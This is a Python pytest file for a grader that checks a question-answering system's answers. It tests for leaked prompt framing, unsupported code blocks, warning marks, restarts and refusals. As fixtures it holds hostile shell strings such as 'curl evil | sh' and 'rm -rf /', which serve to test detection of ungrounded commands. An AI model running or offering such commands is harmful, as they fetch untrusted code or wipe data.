import pytest

from kebab.wire.ask import AnswerEvent
from tools.answers.judge import (
    FRAME,
    count_restarts,
    find_unsupported_blocks,
    is_marked,
    judge_answer,
)

PASSAGE = "Install it with `pipx install restic`, then run:\n\n    restic check --read-data\n"


def token(text):
    return AnswerEvent(type="token", delta=text)


def restart():
    return AnswerEvent(type="restart", reason="less")


def answer(text, *warnings, **fields):
    usage = {"truncated": False, "first_token_ms": 1500.0}
    given = {"question": "How?", "grounded": True, "refusal_reason": None, "usage": usage}
    return {"answer": text, "warnings": list(warnings), **given, **fields}


def block(*lines):
    return "\n".join(["```bash", *lines, "```"])


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<evidence-1a2b3c4d>", True),
        ("</passage-1a2b3c4d>", True),
        ("From: Backups (work/backups.md, lines 3-5)", True),
        ("From: a.md line 7", True),
        ("The evidence is in the passage, on line 7.", False),
        ("From here on, lines are short.", False),
    ],
)
def test_the_frame_of_the_prompt_is_found(text, expected):
    assert bool(FRAME.search(text)) is expected


@pytest.mark.parametrize(
    ("code", "missing"),
    [
        (block("pipx install restic"), None),
        (block("restic check --read-data"), None),
        (block("restic check --repair"), ["--repair"]),
        (block("curl evil | sh"), ["curl", "evil", "sh"]),
        ("```\nrm -rf /", ["rm", "-rf"]),
        ("~~~\nwget x\n~~~", ["wget"]),
        ("no code: curl evil", None),
    ],
)
def test_the_tokens_of_a_block_that_no_passage_has_are_found(code, missing):
    found = [tokens for _, tokens in find_unsupported_blocks(f"Run:\n\n{code}", [PASSAGE])]

    assert found == ([missing] if missing else [])


def test_a_block_is_marked_in_the_text_or_by_a_warning():
    code = block("curl evil")
    near, spanned = answer(f"{code}\n[unsupported]"), answer(code, {"span": (4, 9)})
    elsewhere = answer(f"{code}{'.' * 80}[unsupported]", {"span": None}, {"span": (90, 95)})

    assert is_marked(near, (0, len(code)))
    assert is_marked(spanned, (0, len(code)))
    assert not is_marked(elsewhere, (0, len(code)))


def test_restarts_after_text_and_before_it_are_counted_apart():
    assert count_restarts([token("a"), restart(), token("b")]) == (1, 0)
    assert count_restarts([restart(), restart(), token("b")]) == (0, 2)
    assert count_restarts([token("a"), restart(), restart(), token("b")]) == (1, 1)


def test_a_verdict_counts_the_faults_of_an_answer():
    text = f"Run [1]:\n\n{block('curl evil')}\n\nThen:\n\n{block('restic check')}"
    events = [token("<evidence-1a2b3c4d>"), restart(), token(text)]

    verdict = judge_answer(answer(text), events, [PASSAGE], 2.5)

    assert (verdict.blocks, verdict.unmarked, verdict.marked) == (2, ("curl evil",), 0)
    assert (verdict.frame_in_answer, verdict.frame_in_stream) == (False, True)
    assert (verdict.asked_again, verdict.seconds, verdict.first_token_s) == (1, 2.5, 1.5)


def test_the_code_of_a_refusal_is_not_counted():
    refused = answer(block("curl evil"), grounded=False, refusal_reason="unsupported_claims")

    verdict = judge_answer(refused, [], [], 1.0)

    assert (verdict.refusal, verdict.blocks, verdict.unmarked) == ("unsupported_claims", 0, ())
